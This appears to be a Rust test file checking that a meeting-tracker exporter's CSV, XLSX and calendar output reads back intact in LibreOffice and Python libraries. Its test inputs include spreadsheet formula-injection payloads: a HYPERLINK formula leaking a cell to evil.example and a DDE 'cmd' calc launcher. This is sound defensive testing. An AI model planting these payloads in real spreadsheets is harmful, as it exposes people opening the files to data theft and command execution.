//! What other programs read in our files: LibreOffice, Python's csv, openpyxl and icalendar, each where it is installed.

use minutebook::internals::export::book::Options;
use minutebook::internals::export::{Titles, ics, xlsx};
use minutebook::internals::model::{Cells, Force, Kind, Table, TableRow, TrackerRow, human_columns};
use minutebook::internals::tracker::{read, records};
use std::path::Path;
use std::process::Command;

/// Texts that spreadsheets run, cut, split or take for something else.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+1 from several members; \"quoted\", and more",
    "-2 chairs",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented",
    "＝1+1 full width",
    "'already quoted",
    "line one\nline two, with comma",
    "007",
    "2017-04-05",
    "Liepāja – “naïve” 漢字 😀",
    "1E5",
];

#[test]
fn libreoffice_reads_every_cell_of_csv_and_workbook() {
    if !installed("soffice", &["--version"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let table = table();
    write_all(&table, folder.path());
    let text_columns: Vec<String> = (1..=table.header().count()).map(|column| format!("{column}/2")).collect();
    let as_text = format!("--infilter=CSV:44,34,76,1,{}", text_columns.join("/"));
    let out = folder.path().join("out");
    convert(folder.path(), &out, "tracker.csv", &[&as_text], "csv:Text - txt - csv (StarCalc):44,34,76");
    let back = std::fs::read_to_string(out.join("tracker.csv")).unwrap();
    let ours = std::fs::read_to_string(folder.path().join("tracker.csv")).unwrap();
    assert_eq!(cells(&back), cells(&ours), "the CSV as LibreOffice saves it");

    let every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";
    convert(folder.path(), &out, "tracker.xlsx", &[], every_sheet);
    let sheet = std::fs::read_to_string(out.join("tracker-Tracker.csv")).unwrap();
    assert_eq!(in_our_order(&cells(&sheet)), cells(&ours), "the workbook as LibreOffice saves it");
    println!("LibreOffice: {} cells of tracker.csv and of tracker.xlsx compared", cells(&ours).concat().len());
}

#[test]
fn a_workbook_that_libreoffice_saved_reads_back_as_no_edit() {
    if !installed("soffice", &["--version"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    write_all(&table(), folder.path());
    let out = folder.path().join("out");
    convert(folder.path(), &out, "tracker.xlsx", &[], "xlsx");
    let ours = read(&std::fs::read(folder.path().join("tracker.xlsx")).unwrap(), "ours").unwrap();
    let theirs = read(&std::fs::read(out.join("tracker.xlsx")).unwrap(), "theirs").unwrap();
    assert_eq!((ours.columns, ours.rows), (theirs.columns, theirs.rows));
}

#[test]
fn python_reads_every_cell_of_csv_and_workbook() {
    if !installed("python3", &["-c", "import openpyxl"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    write_all(&table(), folder.path());
    let ours = cells(&std::fs::read_to_string(folder.path().join("tracker.csv")).unwrap());
    let by_csv = python(
        folder.path(),
        "import csv,json; print(json.dumps(list(csv.reader(open('tracker.csv',encoding='utf-8-sig',newline='')))))",
    );
    assert_eq!(by_csv, ours, "Python's csv");
    let by_openpyxl = python(
        folder.path(),
        "import openpyxl,json; ws=openpyxl.load_workbook('tracker.xlsx')['Tracker']; \
         print(json.dumps([['' if c is None else str(c) for c in r] for r in ws.iter_rows(values_only=True)]))",
    );
    assert_eq!(in_our_order(&by_openpyxl), ours, "openpyxl");
    println!("Python csv and openpyxl: {} cells compared", ours.concat().len());
}

#[test]
fn a_calendar_parser_finds_a_to_do_and_an_event_for_each_deadline() {
    if !installed("python3", &["-c", "import icalendar"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let table = table();
    let deadlines = table.items().map(|(row, _)| ics::Deadline { row, status: "done", sequence: 3 });
    let mut bytes = Vec::new();
    ics::write("Deadlines", "2026-11-21", deadlines, &mut bytes).unwrap();
    std::fs::write(folder.path().join("deadlines.ics"), &bytes).unwrap();
    let found = python(
        folder.path(),
        "import icalendar,json; c=icalendar.Calendar.from_ical(open('deadlines.ics','rb').read()); \
         print(json.dumps([[e.name,str(e['UID']),str(e['SEQUENCE']),str(e['DESCRIPTION'])] for e in c.subcomponents]))",
    );
    assert_eq!(found.len(), 2 * HOSTILE.len());
    for (row, _) in table.items() {
        let of = |name: &str, uid: String| found.iter().find(|it| it[0] == name && it[1] == uid).unwrap();
        let todo = of("VTODO", format!("todo-{}@minutebook", row.id));
        of("VEVENT", format!("event-{}@minutebook", row.id));
        assert_eq!(todo[2], "3");
        assert!(todo[3].contains(row.text.trim_matches('\t')), "{todo:?}");
    }
}

/// Rows of a workbook in the order of columns that the CSV has, days without the midnight that some readers put behind them.
fn in_our_order(rows: &[Vec<String>]) -> Vec<Vec<String>> {
    let header = table().header().map(str::to_owned).collect::<Vec<_>>();
    let places: Vec<usize> =
        header.iter().map(|name| rows[0].iter().position(|known| known == name).unwrap()).collect();
    let day = |cell: &String| cell.strip_suffix(" 00:00:00").unwrap_or(cell).to_owned();
    // Below the last row stands an empty cell that draws its line.
    let rows = rows.iter().filter(|row| row.iter().any(|cell| !cell.is_empty()));
    rows.map(|row| places.iter().map(|&at| day(&row[at])).collect()).collect()
}

fn table() -> Table {
    let item = |(at, text): (usize, &&str)| {
        let human = Cells::from([("status".to_owned(), (*text).to_owned()), ("notes".to_owned(), "x".to_owned())]);
        TableRow::Item { row: Box::new(row(at, text)), human }
    };
    Table { human: human_columns([]), rows: HOSTILE.iter().enumerate().map(item).collect() }
}

fn row(at: usize, text: &str) -> TrackerRow {
    TrackerRow {
        id: format!("board-2019-05-02#{at}~{at:08}.r"),
        no: None,
        kind: Kind::Recommendation,
        force: Force::Recommended,
        standing: minutebook::internals::model::Standing::Adopted,
        held_by: Some("Board".to_owned()),
        category: Some("outcomes".to_owned()),
        categories: vec!["outcomes".to_owned(), "funding".to_owned()],
        text: text.to_owned(),
        stem: Some(text.to_owned()),
        actors: vec!["Secretariat".to_owned()],
        due: Some("2019-06-02".to_owned()),
        due_from: None,
        due_text: Some("within a month".to_owned()),
        outcome: None,
        report: "board-2019-05-02".to_owned(),
        date: Some("2019-05-02".to_owned()),
        meeting: Some(text.to_owned()),
        section: None,
        annex: vec!["Annex I".to_owned()],
        paragraph: Some("7.10".to_owned()),
        page: Some(3),
        url: Some("https://example.org/a (b).pdf#page=3".to_owned()),
        source: "2019/board.pdf".to_owned(),
        sha256: "00".repeat(32),
        rule: "recommendation.should".to_owned(),
        flags: Vec::new(),
        source_status: None,
        thread: None,
        first_seen: Some("2026-11-20".to_owned()),
        changed: Some("2026-11-21".to_owned()),
        rev: "raaaaaaaaaaaa".to_owned(),
        formerly: Vec::new(),
    }
}

fn write_all(table: &Table, folder: &Path) {
    let mut bytes = Vec::new();
    minutebook::internals::export::csv::write_table(table, &mut bytes).unwrap();
    std::fs::write(folder.join("tracker.csv"), &bytes).unwrap();
    let options = Options {
        title: "Tracker".to_owned(),
        day: "2026-11-21".to_owned(),
        corpus: None,
        read_back: true,
        titles: Titles::default(),
        statuses: vec!["open".to_owned()],
    };
    bytes.clear();
    xlsx::write(table, &options, folder, &mut bytes).unwrap();
    std::fs::write(folder.join("tracker.xlsx"), &bytes).unwrap();
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    records(csv.trim_start_matches('\u{feff}'), b',')
}

/// Whether a program runs; says so where it does not.
fn installed(program: &str, arguments: &[&str]) -> bool {
    let runs = Command::new(program).args(arguments).output().is_ok_and(|output| output.status.success());
    if !runs {
        eprintln!("skipped: {program} {} does not run here", arguments.join(" "));
    }
    runs
}

fn convert(folder: &Path, out: &Path, file: &str, more: &[&str], to: &str) {
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let done = Command::new("soffice")
        .args([profile.as_str(), "--headless"])
        .args(more)
        .args(["--convert-to", to, "--outdir"])
        .arg(out)
        .arg(folder.join(file))
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
}

fn python(folder: &Path, program: &str) -> Vec<Vec<String>> {
    let done = Command::new("python3").args(["-c", program]).current_dir(folder).output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    serde_json::from_slice(&done.stdout).unwrap()
}
